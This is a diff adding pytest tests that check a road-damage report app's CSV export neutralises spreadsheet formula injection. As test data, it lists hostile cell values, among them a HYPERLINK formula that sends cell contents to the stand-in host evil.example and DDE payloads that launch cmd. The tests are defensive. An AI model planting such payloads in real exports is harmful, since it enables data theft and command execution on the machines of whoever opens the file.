@@ -129,3 +129,32 @@ def test_it_streams_from_a_server_side_cursor_in_chunks(
     assert response.streaming
     assert not hasattr(response, "content")  # never rendered into one string
     assert len(read_csv(response)) == 7
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_it_neutralises_cells_a_spreadsheet_would_run(
+    planner: Client, history: History, hostile: str
+) -> None:
+    report = history.add(BARAT, "road_damage", description=hostile, address=hostile)
+    rows = read_csv(planner.get("/planner/export/reports.csv"))
+    row = next(r for r in rows if r["service_request_id"] == report.tracking_code)
+    assert row["description"] == "'" + hostile
+    assert row["address"] == "'" + hostile
+    assert float(row["lat"]) < 0  # a negative number stays a number
+
+
+def test_it_leaves_ordinary_text_alone(planner: Client, history: History) -> None:
+    report = history.add(BARAT, "road_damage", description="Jalan berlubang = bahaya")
+    rows = read_csv(planner.get("/planner/export/reports.csv"))
+    row = next(r for r in rows if r["service_request_id"] == report.tracking_code)
+    assert row["description"] == "Jalan berlubang = bahaya"
